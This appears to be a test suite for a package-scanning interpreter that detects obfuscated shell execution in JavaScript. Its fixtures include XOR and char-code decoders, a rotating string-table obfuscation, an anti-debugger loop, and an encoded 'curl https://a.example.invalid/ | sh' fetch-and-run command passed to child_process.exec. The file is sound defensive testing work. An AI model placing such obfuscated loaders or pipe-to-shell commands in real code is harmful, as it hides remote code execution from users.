import assert from 'node:assert/strict';
import { all, javascript, walkPackage } from './interpreter-support.js';

const CP = "const cp = require('child_process');";

describe('interpreter: repeated calls', () => {
  it('follows a decoder as often as it is asked', async () => {
    const found = await javascript(`${CP}
      function decode(list) { let out = ''; for (const n of list) out += String.fromCharCode(n - 1); return out }
      for (let i = 0; i < 400; i++) decode([i + 50, i + 60]);
      cp.exec(decode([109, 116]))`);
    assert.ok(found.some((line) => line.startsWith('run-shell ls')));
  });

  it('walks again for a function or a reference it was not given before', async () => {
    const found = await javascript(`${CP}
      function each(list, f) { for (const x of list) { f(x) } for (let i = 0; i < 60; i++) { list.push(i) } }
      for (let i = 0; i < 200; i++) each([{ i }], (x) => ({ x }));
      each(['whoami'], cp.exec)`);
    assert.ok(found.some((line) => line.startsWith('run-shell whoami')));
  });

  it('walks again for data of another origin', async () => {
    const source = `${CP}
      function wrap(value) { const box = {}; for (let i = 0; i < 40; i++) box['k' + i] = value; return box }
      for (let i = 0; i < 300; i++) wrap({ i });
      cp.exec(wrap(process.env.HOMEPAGE).k1)`;
    const found = all(await walkPackage({ files: { 'index.js': source } }));
    const run = found.find((b) => b.code === 'run-shell');
    assert.deepEqual(run?.qualifiers, ['carries:env-variable']);
  });

  it('does not repeat what never tells anything', async () => {
    const source = `
      class Node { constructor(kind) { this.kind = kind; this.list = []; for (let i = 0; i < 30; i++) this.list.push({ i }) } }
      function build(tree) { const n = new Node(tree); return { n, tree } }
      for (let i = 0; i < 3000; i++) build({ i });`;
    const { stats } = await walkPackage({ files: { 'index.js': source } });
    assert.ok(stats.steps < 80_000, String(stats.steps));
  });

  it('does not take the putting together of flags for decoding', async () => {
    const source = `
      function walk(at) {
        let flags = 0;
        for (let i = 0; i < 40; i++) { flags = (flags << 1) | (i & 1); flags = flags & 255 }
        return { at, flags };
      }
      for (let i = 0; i < 4000; i++) walk({ i });`;
    const { stats } = await walkPackage({ files: { 'index.js': source } });
    assert.ok(stats.steps < 80_000, String(stats.steps));
  });

  it('follows a decoder behind much that decodes nothing', async () => {
    const found = await javascript(`${CP}
      function busy(n) { const kept = []; for (let i = 0; i < 50; i++) kept.push({ n, i }); return kept }
      for (let i = 0; i < 4000; i++) busy({ i });
      function decode(text, key) {
        let out = '';
        for (let i = 0; i < text.length; i++) out += String.fromCharCode(text.charCodeAt(i) ^ key.charCodeAt(i % key.length));
        return out;
      }
      for (let i = 0; i < 100; i++) decode('padding of no use ' + i, 'k');
      cp.exec(decode(${JSON.stringify(xor('curl https://a.example.invalid/ | sh', 'secret'))}, 'secret'))`);
    assert.ok(
      found.some((line) => line.includes('curl https://a.example.invalid/ | sh')),
      found.join('\n'),
    );
  });

  it('counts the work of copying large lists and searching large bytes', async () => {
    const steps = async (size: number, body: string): Promise<number> =>
      (await walkPackage({ files: { 'index.js': body.replaceAll('SIZE', String(size)) } })).stats.steps;
    const copied = 'let a = new Array(SIZE).fill(1); for (let i = 0; i < 50; i++) a = a.concat([i]);';
    const searched = 'const b = Buffer.alloc(SIZE); for (let i = 0; i < 50; i++) b.some((x) => x > 300 + i);';
    for (const body of [copied, searched]) {
      const few = await steps(10, body);
      const many = await steps(20_000, body);
      assert.ok(many > few + 5000, `${body}: ${few}, ${many}`);
    }
  });

  it('leaves a loop at once that only stops a debugger', async () => {
    const { stats, units } = await walkPackage({
      files: { 'index.js': `${CP} while (true) {} cp.exec('ls')` },
    });
    assert.ok(units.some((unit) => unit.behaviors.some(({ code }) => code === 'run-shell')));
    assert.ok(stats.steps < 100, String(stats.steps));
  });

  /** A table of texts, `by` places out of order, that is rotated until a sum is right, as obfuscators hide one. */
  const rotating = (size: number, by: number, look: string): string => {
    const texts = Array.from({ length: size }, (_, i) => `${i + 1}w${'x'.repeat(i % 7)}`);
    texts.splice(size - 3, 3, 'child_process', 'exec', 'whoami');
    const shown = [...texts.slice(size - by), ...texts.slice(0, size - by)];
    const asked = Array.from({ length: 10 }, (_, i) => Math.floor((i * (size - 4)) / 10));
    const sum = asked.reduce((total, place, i) => total + (place + 1) * (i + 1), 0);
    return `
      const list = ${JSON.stringify(shown)};
      function look(at) { ${look} return list[at] }
      while (!![]) {
        const sum = ${asked.map((place, i) => `parseInt(look(${place})) * ${i + 1}`).join(' + ')};
        if (sum === ${sum}) break;
        list.push(list.shift());
      }
      require(look(${size - 3}))[look(${size - 2})](look(${size - 1}));`;
  };
  const work = `let k = 0; ${'k = k + 1; '.repeat(40)}`;

  it('rotates a table under a decoder that takes long for each text', async () => {
    const found = await javascript(rotating(90, 80, work));
    assert.ok(found.includes('run-shell whoami'), found.join('\n'));
  });

  it('rotates a large table to its end', async () => {
    const found = await javascript(rotating(480, 465, work));
    assert.ok(found.includes('run-shell whoami'), found.join('\n'));
  });

  it('takes a decoder that reads names put together for one that only computes', async () => {
    const found = await javascript(rotating(60, 50, "at = Math[String.fromCharCode(97) + 'bs'](at);"));
    assert.ok(found.includes('run-shell whoami'), found.join('\n'));
  });
});

const xor = (text: string, key: string): string =>
  [...text].map((c, i) => String.fromCharCode(c.charCodeAt(0) ^ key.charCodeAt(i % key.length))).join('');
